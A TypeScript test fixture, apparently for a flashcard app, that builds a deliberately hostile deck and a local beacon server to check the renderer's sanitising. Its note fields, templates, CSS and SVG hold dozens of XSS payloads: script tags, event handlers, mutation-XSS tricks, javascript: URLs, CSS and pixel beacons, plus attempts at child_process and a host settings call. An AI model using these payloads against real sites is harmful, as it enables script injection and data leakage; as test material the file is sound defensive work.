// A deck that tries everything a deck could try. Each attempt, if it worked, would set `owned` on the page or knock at
// the beacon.
import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'

export interface Beacon {
  readonly address: string
  /** Paths at which anything knocked. */
  readonly hits: readonly string[]
  close(): Promise<void>
}

/** A server outside of Verso, on this machine, so that a request would arrive if one were made. */
export async function startBeacon(): Promise<Beacon> {
  const hits: string[] = []
  const server = createServer((request, response) => {
    hits.push(request.url ?? '')
    response
      .writeHead(200, { 'Access-Control-Allow-Origin': '*', 'Content-Type': 'text/html' })
      .end('<p>caught')
  })
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
  return {
    address: `http://127.0.0.1:${(server.address() as AddressInfo).port}`,
    hits,
    async close() {
      server.closeAllConnections()
      await new Promise((resolve) => server.close(resolve))
    },
  }
}

/** Content for the hostile notes, by what it tries. `at` is the beacon's address. */
function attempts(at: string): Readonly<Record<string, string>> {
  const own = 'window.owned=1;try{top.owned=1}catch(e){};try{parent.owned=1}catch(e){}'
  const call = `${own};fetch('${at}/fetch');new Image().src='${at}/script-image'`
  return {
    script: `<script>${call}</script><script src="${at}/script.js"></script><script type="module">${call}</script>`,
    handlers: `<img src="nothing.png" onerror="${call}"><b onmouseover="${call}" onclick="${call}">hover</b><details open ontoggle="${call}"><summary>s</summary>t</details><video onloadstart="${call}" src="x.mp4"></video><body onload="${call}"><input autofocus onfocus="${call}">`,
    svg: `<svg onload="${call}"><script>${call}</script><animate onbegin="${call}" attributeName="x" dur="1s"/><a xlink:href="javascript:${own}"><text y="20">svg</text></a><foreignObject><iframe src="${at}/svg-frame"></iframe></foreignObject><image href="${at}/svg-image"/><use href="${at}/svg-use#x"/></svg><img src="evil.svg">`,
    mutation: `<svg></p><style><a id="</style><img src=1 onerror='${call}'>"></svg><math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${own}&gt;"></table></mtext></math><noscript><p title="</noscript><img src=x onerror='${call}'>"></noscript><form><math><mtext></form><form><mglyph><style></math><img src onerror="${call}">`,
    style: `<style>@import url("${at}/import.css"); body{background:url("${at}/css-body.png")} @font-face{font-family:x;src:url("${at}/font.woff2")}</style><p style="background-image:url('${at}/css-inline.png');font-family:x;position:fixed;inset:0;behavior:url(${at}/htc)">styled</p><link rel="stylesheet" href="${at}/link.css"><link rel="prefetch" href="${at}/prefetch"><link rel="dns-prefetch" href="//tracker.example">`,
    pixel: `![pixel](${at}/markdown.png) <img src="${at}/pixel.gif" width="1" height="1"><img srcset="${at}/srcset.png 1x"><picture><source srcset="${at}/source.png"><img src="//127.0.0.1/protocol-relative.png"></picture><audio src="${at}/a.mp3" autoplay></audio><video poster="${at}/poster.png" src="${at}/v.mp4" autoplay></video><track src="${at}/t.vtt"><input type="image" src="${at}/input.png"><img src="\\\\127.0.0.1\\share\\x.png"><img src="file:///etc/hostname">`,
    frames: `<iframe src="${at}/frame"></iframe><iframe srcdoc="<script>${own}</script>"></iframe><object data="${at}/object"></object><embed src="${at}/embed"><frameset><frame src="${at}/frame2"></frameset><portal src="${at}/portal"></portal><webview src="${at}/webview"></webview><base href="${at}/base/"><img src="relative.png">`,
    navigation: `<meta http-equiv="refresh" content="0;url=${at}/meta"><form action="${at}/form" id="f"><button>Submit me</button><input name="q" value="secret"></form><a href="${at}/link">Plain link</a> <a href="javascript:${own}">Script link</a> <a href="java&#10;script:${own}">Split link</a> [markdown](javascript:window.owned=1) <a href="data:text/html,<script>${own}</script>" target="_top">Data link</a> <a href="${at}/blank" target="_blank" ping="${at}/ping">Blank link</a><button formaction="javascript:${own}" form="f">Button</button>`,
    node: `<script>try{require('child_process')}catch(e){};try{process.exit(7)}catch(e){};try{top.host.call('settings:write',{rolloverHour:9});window.owned=1}catch(e){};window.open('${at}/open')</script><img src=x onerror="parent.host.call('settings:write',{rolloverHour:9})">`,
    reread: `<div data-src="${at}/data-src" data-bind="text: owned=1" data-onclick="${own}" data-katex="\\\\href{javascript:${own}}{x}" class="hljs katex" id="root">reread</div>\n\n$$\\href{javascript:window.owned=1}{x} \\includegraphics{${at}/tex.png} \\htmlData{x=1}{y} \\url{${at}/tex-url}$$\n\n\`\`\`html\n<img src=x onerror="${own}">\n\`\`\``,
  }
}

/** Files of a library that holds the hostile deck: title and short texts are hostile, too. */
export function hostileLibrary(at: string): Readonly<Record<string, string>> {
  const short = `<img src="${at}/short.png" onerror="window.owned=1"> ![x](${at}/short-markdown.png) [l](javascript:window.owned=1)`
  const notes = [
    ...Object.entries(attempts(at)).map(([id, html]) => ({
      kind: 'basic',
      id,
      tags: [],
      front: `Attempt: ${id}\n\n${html}`,
      back: `After ${id}\n\n${html}`,
      explanation: html,
    })),
    {
      kind: 'choice',
      id: 'short-choice',
      tags: [],
      stem: `Choice ${short}`,
      options: [
        { text: `Right ${short}`, correct: true, rationale: short },
        { text: `Wrong <script>window.owned=1</script>`, correct: false, rationale: short },
      ],
    },
    { kind: 'typed', id: 'short-typed', tags: [], prompt: `Type ${short}`, answer: '<b>x</b>', accepted: [] },
    {
      kind: 'cloze',
      id: 'short-cloze',
      tags: [],
      text: `Cloze {{c1::${short}::<script>window.owned=1</script>}} end`,
    },
    ...['evil.svg', `${at}/occlusion.png`, `x.png" onerror="window.owned=1`].map((image, index) => ({
      kind: 'occlusion',
      id: `occlusion-${index}`,
      tags: [],
      image,
      mode: index === 0 ? 'hide-all' : 'hide-one',
      header: `Attempt: occlusion ${index} ${short}`,
      shapes: [
        { card: 1, shape: 'rect', left: 0.1, top: 0.1, width: 0.2, height: 0.2, label: `Label ${short}` },
        {
          card: 1,
          shape: 'ellipse',
          left: 0.5,
          top: 0.5,
          width: 0.2,
          height: 0.2,
          label: '<script>window.owned=1</script>',
        },
      ],
      explanation: short,
    })),
    {
      kind: 'templated',
      id: 'templated',
      tags: [],
      type: 'trap',
      fields: { Front: `Attempt: templated<br>${Object.values(attempts(at)).join('<br>')}`, Back: short },
    },
  ]
  const trap = {
    id: 'trap',
    name: 'Trap',
    fields: ['Front', 'Back'],
    templates: [
      {
        name: `Card ${short}`,
        front: `{{Front}}<style>@import "${at}/template-import.css"; b { background: url(${at}/template-style.png) }</style>`,
        back: `{{FrontSide}}<hr id=answer>{{hint:Back}} {{Card}}<script>window.owned=1</script>`,
      },
    ],
    css: `@import url("${at}/type-import.css"); @font-face { font-family: x; src: url("${at}/type-font.woff2") }
      .card { background: url("${at}/type.png"), image-set("${at}/type-set.png" 1x); font-family: x;
        behavior: url(${at}/type-htc); cursor: url('${at}/type-cursor.png'), auto }
      </style><script>window.owned=1</script>
      @media all { .card { border-image: url(//127.0.0.1/protocol.png) } .card { & b { background: url(${at}/nested.png) } } }`,
  }
  const deck = {
    format: 1,
    id: 'hostile',
    title: `Hostile ${short}`,
    description: short,
    language: 'en',
    noteTypes: [trap],
    notes,
  }
  return {
    'decks/hostile.deck.json': JSON.stringify(deck, null, 2),
    'decks/hostile.media/evil.svg': `<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10" onload="window.owned=1"><script>top.owned=1;fetch("${at}/svg-file")</script><image href="${at}/svg-file-image" width="5" height="5"/></svg>`,
    'decks/hostile.media/nothing.html': `<script>top.owned=1</script>`,
  }
}
